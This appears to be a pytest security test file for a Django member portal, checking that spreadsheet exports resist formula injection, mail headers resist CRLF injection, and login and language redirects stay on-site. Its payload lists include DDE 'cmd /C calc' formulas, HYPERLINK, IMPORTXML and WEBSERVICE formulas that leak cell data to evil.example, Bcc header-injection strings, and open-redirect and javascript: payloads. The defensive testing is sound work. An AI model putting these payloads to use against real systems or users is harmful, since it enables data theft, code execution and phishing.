"""S-5 (QUALITY.md): exports carry no formulas; mail headers cannot be injected; redirects stay on-site.

(a) Formula payloads in every text column of the CSV/XLSX downloads (member export, inline and as a background job;
    participant lists; member report answers; the qualification matrix; the portfolio), downloaded through the real
    views and read back with the csv module and openpyxl (data_only=False): no formula cell, no text cell that a
    spreadsheet would evaluate. All of them write through members.exports (write_csv/write_xlsx) or its cell rules.
(b) CR/LF, Bcc and To lines in the texts that reach mail headers (Infobrief subject, sender name, network name, meeting
    title, message subject, contact names), sent through the real mail path to the SMTP sink: the raw message reaches
    only its recipient and carries no header line from user text.
(c) Open-redirect payloads on every endpoint that takes a `next` parameter or a Referer (allauth login, logout,
    reauthentication, the admin login, the language switch): every Location header, read as a browser reads it, stays
    on the portal.
"""

from __future__ import annotations

import csv
import email
import email.policy
import io
import re
from contextlib import contextmanager
from datetime import timedelta
from unittest import mock
from urllib.parse import urljoin, urlsplit

import openpyxl
import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from events import invitations
from events import services as event_services
from events.messaging import meeting_message_send
from events.models import Registration
from health.models import MemberReport, ReportRequest
from members import exports as members_exports
from members.models import Contact, Organisation
from newsletters import sending
from newsletters.services import newsletter_settings
from qualification.models import Need, Topic
from tests.conftest import PASSWORD
from tests.health.matrix_reports import period
from tests.newsletters import factories
from verbund.models import BackgroundJob, Network

pytestmark = pytest.mark.anchor("S-5")

# --- (a) formulas ---------------------------------------------------------------------------------

FORMULA_PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "   +41",
    "\u00a0=1+1",
    '=HYPERLINK("http://evil.example/?leak="&A1;"Klick")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@cmd|'/c calc'!_xlbgnm.A1",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    '=IMPORTXML(CONCAT("http://evil.example/?",A1);"//a")',
    '=WEBSERVICE("http://evil.example/")',
    "=+1",
    "==1",
    "+49 5971 123456",
]
TRIGGERS = ("=", "+", "-", "@")


def evaluates(text: str) -> bool:
    """Whether a spreadsheet would take a text cell as a formula (checked independently of the product's helper)."""
    if not text:
        return False
    if text[0] in "\t\r\n":
        return True
    return text.strip()[:1] in TRIGGERS


def from_payload(text: str) -> bool:
    """Whether a cell carries one of the payloads (neutralised or not): the column was reached."""
    core = text.lstrip("'\u2060")
    return any(core and (core == p or p.startswith(core) and len(core) >= 4 or core in p and len(core) >= 4) for p in FORMULA_PAYLOADS)


def csv_cells(content: bytes) -> list[tuple[str, str]]:
    """(column header, value) of every cell of a ';'-separated UTF-8 (BOM) CSV."""
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))
    headers = rows[0]
    return [(headers[i] if i < len(headers) else str(i), value) for row in rows[1:] for i, value in enumerate(row)]


def xlsx_cells(content: bytes) -> list[tuple[str, str, bool]]:
    """(sheet/column header, value, is a formula) of every cell of every sheet."""
    workbook = openpyxl.load_workbook(io.BytesIO(content), data_only=False)
    cells = []
    for sheet in workbook.worksheets:
        rows = list(sheet.iter_rows())
        if not rows:
            continue
        headers = [str(c.value or "") for c in rows[0]]
        for row in rows:  # the header row too: topic titles are headers of the matrix
            for i, cell in enumerate(row):
                if cell.value is None:
                    continue
                formula = cell.data_type == "f" or (isinstance(cell.value, str) and evaluates(cell.value) and not cell.quotePrefix)
                cells.append((f"{sheet.title}/{headers[i] if i < len(headers) else i}", str(cell.value), formula))
    return cells


def fill_formulas(world, manager, index: int) -> None:
    """Payload `index` in every text field the exports carry (an UPDATE: the exports must cope with any stored text)."""
    payload = FORMULA_PAYLOADS[index]

    def clip(model, name: str) -> str:
        return payload[: model._meta.get_field(name).max_length or None]

    texts = ("name", "street", "postcode", "municipality", "district", "state", "website")
    Organisation.objects.filter(pk__in=[world.org_a.pk, world.org_b.pk]).update(**{n: clip(Organisation, n) for n in texts})
    names = ("title", "first_name", "last_name", "function", "email", "phone")
    Contact.objects.filter(organisation__in=[world.org_a, world.org_b]).update(**{n: clip(Contact, n) for n in names})
    Topic.objects.filter(network=world.network_x).update(title=clip(Topic, "title"))
    Need.objects.filter(network=world.network_x).update(**{n: clip(Need, n) for n in ("target_group", "preferred_time", "preferred_place", "content_wishes")})
    Network.objects.filter(pk=world.network_x.pk).update(name=clip(Network, "name"))
    Registration.objects.filter(meeting__network=world.network_x).update(guest_name=clip(Registration, "guest_name"))
    ReportRequest.objects.filter(network=world.network_x).update(title=clip(ReportRequest, "title"), prompts=f"{payload}\nWas fehlt?")
    MemberReport.objects.filter(period__request__network=world.network_x).update(
        answers=[{"prompt": payload, "text": payload}, {"prompt": "Was fehlt?", "text": payload}]
    )


@pytest.fixture
def export_world(world, manager_x):
    start = event_services.meeting_at(timezone.localdate() + timedelta(days=7), 9, 0)
    meeting = event_services.meeting_create(
        network=world.network_x, by=manager_x, data={"title": "Treffen", "kind": "workshop", "starts_at": start, "ends_at": start + timedelta(hours=4)}
    )
    for contact in Contact.objects.filter(organisation__in=[world.org_a, world.org_b]):
        event_services.registration_register(meeting=meeting, by=manager_x, contact=contact, by_manager=True, consent_participant_list=True)
    Registration.objects.create(
        meeting=meeting, guest_name="Gast", guest_email="gast@example.org", guest_organisation="Gast GmbH", consent_participant_list=True
    )
    report_period = period(world)  # the yearly member report of network X, organisation A answered it
    MemberReport.objects.create(
        period=report_period, organisation=world.org_a, answers=[{"prompt": "Was lief gut?", "text": "Viel"}], submitted_at=timezone.now()
    )
    topic = Topic.objects.create(network=world.network_x, title="Thema")
    for org in (world.org_a, world.org_b):
        Need.objects.create(network=world.network_x, organisation=org, topic=topic, priority=Need.Priority.URGENT, head_count=2, target_group="Meister")
    return meeting


def downloads(client: Client, world, meeting, capture) -> list[tuple[str, str, bytes]]:
    """(name, format, content) of every CSV/XLSX download a manager of network X has."""
    slug = world.network_x.slug
    files = []
    export = reverse("io:export", kwargs={"network_slug": slug})
    for fmt in ("csv", "xlsx"):
        response = client.get(export, {"format": fmt})
        assert response.status_code == 200, response
        files.append(("members", fmt, response.content))
        # A long list is written by a background job (the same writers, row by row into a file): its download too.
        with mock.patch.object(members_exports, "INLINE_EXPORT_ROWS", 0), eager_tasks(), capture(execute=True):
            response = client.get(export, {"format": fmt})
        assert response.status_code == 302, response
        job = BackgroundJob.objects.filter(kind=BackgroundJob.Kind.EXPORT).latest("pk")
        response = client.get(reverse("io:job_download", kwargs={"network_slug": slug, "pk": job.pk}))
        assert response.status_code == 200, (job.status, job.error if hasattr(job, "error") else "")
        files.append(("members (background job)", fmt, b"".join(response.streaming_content)))
    response = client.get(reverse("health_reports:period_csv", kwargs={"network_slug": slug, "period_pk": period(world).pk}))
    assert response.status_code == 200, response
    files.append(("member reports", "csv", response.content))
    bulk = reverse("events:registrations_bulk", kwargs={"network_slug": slug, "pk": meeting.pk})
    for action in ("export-all", "export-shared"):
        response = client.post(bulk, {"action": action})
        assert response.status_code == 200 and response["Content-Type"].startswith("text/csv"), response
        files.append((f"participants {action}", "csv", response.content))
    response = client.get(reverse("qualification:matrix_xlsx", kwargs={"network_slug": slug}))
    assert response.status_code == 200, response
    files.append(("qualification matrix", "xlsx", response.content))
    year = timezone.localdate().year
    for fmt in ("csv", "xlsx"):
        response = client.get(reverse(f"portfolio:{fmt}"), {"year": year})
        assert response.status_code == 200, response
        files.append(("portfolio", fmt, response.content))
    return files


@contextmanager
def eager_tasks():
    from verbund.celery import app

    before, app.conf.task_always_eager = app.conf.task_always_eager, True
    try:
        yield
    finally:
        app.conf.task_always_eager = before


def test_no_formula_survives_in_any_exported_column(client, world, manager_x, export_world, django_capture_on_commit_callbacks, anchor):
    client.force_login(manager_x)
    formulas: list[str] = []
    columns: set[str] = set()
    files = 0
    for index in range(len(FORMULA_PAYLOADS)):
        fill_formulas(world, manager_x, index)
        for name, fmt, content in downloads(client, world, export_world, django_capture_on_commit_callbacks):
            files += 1
            if fmt == "csv":
                cells = [(column, value, evaluates(value)) for column, value in csv_cells(content)]
            else:
                cells = xlsx_cells(content)
            for column, value, formula in cells:
                if from_payload(value):
                    columns.add(f"{name} {fmt}: {column}")
                if formula:
                    formulas.append(f"{name} {fmt} {column}: {value!r}")
    anchor(formula_payloads=len(FORMULA_PAYLOADS), columns=len(columns), formulas=len(formulas))
    assert formulas == [], "\n".join(formulas[:30])
    assert len(columns) >= 20, sorted(columns)  # the payloads reached the text columns (names, addresses, contacts, topics …)


# --- (b) mail headers -----------------------------------------------------------------------------

EVIL = "evil@evil.example"
HEADER_PAYLOADS = [
    f"Betreff\r\nBcc: {EVIL}",
    f"Betreff\nBcc: {EVIL}",
    f"Betreff\rBcc: {EVIL}",
    f"Betreff\r\nTo: {EVIL}",
    f"Betreff\r\nCc: {EVIL}",
    f"Betreff\r\n Bcc: {EVIL}",
    f"Betreff\r\n\r\nBcc: {EVIL}",
    f"Betreff\u2028Bcc: {EVIL}",
    f"Betreff\u0085Bcc: {EVIL}",
    f"=?utf-8?q?Betreff=0D=0ABcc=3A_{EVIL}?=",
    f"Betreff%0d%0aBcc:%20{EVIL}",
    f'Name <{EVIL}>, "x" <{EVIL}>',
]
INJECTED_HEADER = re.compile(r"^(bcc|cc|to|x-injected)\s*:.*evil", re.IGNORECASE | re.MULTILINE)


@pytest.fixture
def smtp_everything(settings, smtp_sink):
    """Both mailers to the real SMTP sink; Celery tasks run in the test."""
    from verbund.celery import app

    port, read = smtp_sink
    backend = {"BACKEND": "django.core.mail.backends.smtp.EmailBackend", "OPTIONS": {"host": "127.0.0.1", "port": port, "timeout": 10}}
    settings.MAILERS = {"default": backend, "newsletter": backend}
    settings.NEWSLETTER_RATE_PER_SECOND = 1000
    before, app.conf.task_always_eager = app.conf.task_always_eager, True
    yield read
    app.conf.task_always_eager = before


def header_block(raw: str) -> str:
    return raw.replace("\r\n", "\n").split("\n\n", 1)[0]


def test_crlf_in_subjects_and_names_adds_no_recipient_and_no_header(world, manager_x, smtp_everything, django_capture_on_commit_callbacks, anchor):
    read = smtp_everything
    network = world.network_x
    contact = factories.recipients(network, 1)[0]
    start = event_services.meeting_at(timezone.localdate() + timedelta(days=10), 9, 0)
    extra: list[str] = []
    lost: list[str] = []
    sent_before = 0
    places = 0
    for index, payload in enumerate(HEADER_PAYLOADS):
        # The Infobrief: subject, sender name, the network's name (List-Id), the recipient's name (greeting).
        Network.objects.filter(pk=network.pk).update(name=payload[:200])
        network.refresh_from_db()
        template = newsletter_settings(network)
        type(template).objects.filter(pk=template.pk).update(sender_name=payload[:100], title=payload[:200])
        Contact.objects.filter(pk=contact.pk).update(first_name=payload[:100], last_name=payload[:100])
        letter = factories.infobrief(network, subject=payload[:150])
        with django_capture_on_commit_callbacks(execute=True):
            sending.send_start(infobrief=letter, by=manager_x)
        # A meeting invitation (the title in the subject, the contact's name in the calendar) and a message to its people.
        meeting = event_services.meeting_create(
            network=network, by=manager_x, data={"title": f"Treffen {index}", "kind": "workshop", "starts_at": start, "ends_at": start + timedelta(hours=4)}
        )
        type(meeting).objects.filter(pk=meeting.pk).update(title=payload[:200])
        with django_capture_on_commit_callbacks(execute=True):
            invitations.invitation_create(meeting=meeting, by=manager_x, audience="selected", contact_ids=[contact.pk], message=payload)
        event_services.registration_register(meeting=meeting, by=manager_x, contact=contact, by_manager=True)
        with django_capture_on_commit_callbacks(execute=True):
            meeting_message_send(meeting=meeting, by=manager_x, kind="message", subject=payload, body=f"Text {payload}")
        places += 7  # Infobrief subject, sender name, network name, contact name; meeting title, invitation message, message subject
        records = read()
        new, sent_before = records[sent_before:], len(records)
        kinds = 3
        if len(new) < kinds:
            lost.append(f"payload {index}: {len(new)} of {kinds} mails arrived")
        for record in new:
            recipients = {r.lower() for r in record["rcpt_tos"]}
            if recipients != {contact.email.lower()}:
                extra.append(f"payload {index}: recipients {sorted(recipients)}")
            headers = header_block(record["raw"])
            if INJECTED_HEADER.search(headers):
                extra.append(f"payload {index}: header {INJECTED_HEADER.search(headers).group(0)!r}")
            parsed = email.message_from_string(record["raw"], policy=email.policy.default)
            for name in ("To", "Cc", "Bcc"):
                if EVIL in str(parsed.get(name, "")):
                    extra.append(f"payload {index}: {name} {parsed.get(name)!r}")
    anchor(header_payloads=len(HEADER_PAYLOADS), extra_recipients=len(extra))
    assert extra == [], "\n".join(extra)
    assert lost == [], "\n".join(lost)  # a payload must not stop the mail either
    assert places


# --- (c) redirects ----------------------------------------------------------------------------------

REDIRECT_PAYLOADS = [
    "//evil.example",
    "//evil.example/",
    "///evil.example",
    "////evil.example",
    "/\\evil.example",
    "\\\\evil.example",
    "\\/evil.example",
    "/\\/evil.example",
    "https:evil.example",
    "https:/evil.example",
    "https://evil.example",
    "http://evil.example",
    "HTTPS://EVIL.EXAMPLE",
    "%2F%2Fevil.example",
    "/%2F%2Fevil.example",
    "%5C%5Cevil.example",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "http://127.0.0.1.evil.example",
    "http://testserver.evil.example/",
    "http://testserver@evil.example/",
    "http://evil.example\\@testserver/",
    " //evil.example",
    "\t//evil.example",
    "\n//evil.example",
    "/\t/evil.example",
    "/ /evil.example",
    "http:\\\\evil.example",
    "https://evil.example%2F@testserver/",
    "//evil.example%00.testserver",
    "\u3002evil.example",
]
HOST = "testserver"


def offsite(location: str, base: str) -> bool:
    """Whether a browser following this Location leaves the portal (it drops tabs/newlines and leading blanks, reads \\ as /)."""
    cleaned = re.sub(r"[\t\n\r]", "", location).strip("\x00 \x0c").replace("\\", "/")
    target = urlsplit(urljoin(f"http://{HOST}{base}", cleaned))
    return target.scheme not in ("http", "https") or (target.hostname or "") != HOST


def follow_locations(client: Client, response, base: str, hops: int = 3) -> list[str]:
    """The Location headers of a response and of the portal's own redirects after it (an off-site one is not followed)."""
    found = []
    for _ in range(hops):
        if response.status_code not in (301, 302, 303, 307, 308):
            break
        location = response["Location"]
        found.append(location)
        if offsite(location, base):
            break
        response = client.get(location)
    return found


def totp_code(secret: str) -> str:
    import time

    from allauth.mfa.totp.internal.auth import format_hotp_value, hotp_value

    return format_hotp_value(hotp_value(secret, int(time.time()) // 30))


def test_redirect_payloads_never_leave_the_portal(world, member_a_x, manager_x, anchor, settings):
    from allauth.mfa.models import Authenticator
    from django.core.cache import cache

    settings.ACCOUNT_RATE_LIMITS = False  # thirty logins in a row from one address
    settings.MFA_REQUIRED_FOR_MANAGERS = True
    secret = "JBSWY3DPEHPK3PXP"
    Authenticator.objects.create(user=manager_x, type=Authenticator.Type.TOTP, data={"secret": secret})
    login = reverse("account_login")
    endpoints: dict[str, int] = {}
    offsite_hits: list[str] = []

    redirected: dict[str, int] = {}

    def check(endpoint: str, client: Client, response, base: str) -> None:
        endpoints[endpoint] = endpoints.get(endpoint, 0) + 1
        locations = follow_locations(client, response, base)
        redirected[endpoint] = redirected.get(endpoint, 0) + (1 if locations else 0)
        for location in locations:
            if offsite(location, base):
                offsite_hits.append(f"{endpoint} {payload!r} → {location!r}")

    for payload in REDIRECT_PAYLOADS:
        anonymous = Client()
        check("login GET", anonymous, anonymous.get(login, {"next": payload}), login)
        response = anonymous.post(login, {"login": member_a_x.email, "password": PASSWORD, "next": payload})
        check("login POST", anonymous, response, login)
        check("login GET (signed in)", anonymous, anonymous.get(login, {"next": payload}), login)
        reauth = reverse("account_reauthenticate")
        check("reauthenticate", anonymous, anonymous.post(f"{reauth}?next={payload}", {"password": PASSWORD, "next": payload}), reauth)
        logout = reverse("account_logout")
        check("logout", anonymous, anonymous.post(logout, {"next": payload}), logout)
        admin = reverse("admin:login")
        check("admin login", anonymous, Client().get(admin, {"next": payload}), admin)
        language = reverse("set_language")
        check("language (next)", anonymous, anonymous.post(language, {"language": "en", "next": payload}), language)
        check("language (Referer)", anonymous, anonymous.post(language, {"language": "de"}, headers={"Referer": payload}), language)
        code = reverse("account_request_login_code")
        check("login code", anonymous, anonymous.post(code, {"email": member_a_x.email, "next": payload}), code)
        # A manager's login goes through the TOTP step, which carries `next` on.
        cache.clear()  # allauth refuses a TOTP code used a moment ago (the same 30-second step)
        manager = Client()
        response = manager.post(login, {"login": manager_x.email, "password": PASSWORD, "next": payload})
        assert response.status_code == 302 and response["Location"] == reverse("mfa_authenticate"), response
        mfa = reverse("mfa_authenticate")
        check("two-factor step", manager, manager.post(mfa, {"code": totp_code(secret)}), mfa)
    anchor(redirect_payloads=len(REDIRECT_PAYLOADS), redirect_endpoints=len(endpoints), offsite=len(offsite_hits))
    assert offsite_hits == [], "\n".join(offsite_hits)
    # Each endpoint really redirected for every payload (a login that failed would prove nothing); the login form
    # itself only carries `next` on to the POST.
    assert {e: n for e, n in redirected.items() if n < len(REDIRECT_PAYLOADS)} == {"login GET": 0}, redirected


@pytest.mark.parametrize(
    "location", ["//evil.example/", "/\\evil.example", " https://evil.example", "/\t/evil.example", "javascript:alert(1)", "https:evil.example"]
)
def test_the_offsite_check_reads_locations_as_a_browser_does(location):
    """The checker itself: what a browser would follow off the portal counts (the anchor's 0 is not a blind spot)."""
    assert offsite(location, "/accounts/login/")


@pytest.mark.parametrize("location", ["/manage/", "?next=x", "http://testserver/portal/", "../portal/"])
def test_the_offsite_check_leaves_the_portals_own_addresses_alone(location):
    assert not offsite(location, "/accounts/login/")


@pytest.mark.parametrize("value", ["=1+1", "\t1", " -2", "@SUM(A1)"])
def test_the_formula_check_finds_what_a_spreadsheet_evaluates(value):
    assert evaluates(value) and not evaluates("'" + value)


WRITERS = re.compile(r"csv\.writer\(|csv\.DictWriter\(|Workbook\(|\.write_csv\(|\.to_csv\(|\.to_excel\(")
WRITER_HOMES = {"members/exports.py", "qualification/exports.py"}  # both neutralise every text cell; both are downloaded above


def test_every_spreadsheet_is_written_by_the_checked_writers():
    """A new export that writes CSV or XLSX itself (not through members.exports) fails here until it is checked above."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    apps = ("members", "events", "qualification", "newsletters", "verbund", "composition", "health")
    found = {
        str(path.relative_to(root))
        for app in apps
        for path in (root / app).rglob("*.py")
        if "migrations" not in path.parts and WRITERS.search(path.read_text(encoding="utf-8"))
    }
    assert found <= WRITER_HOMES, sorted(found - WRITER_HOMES)
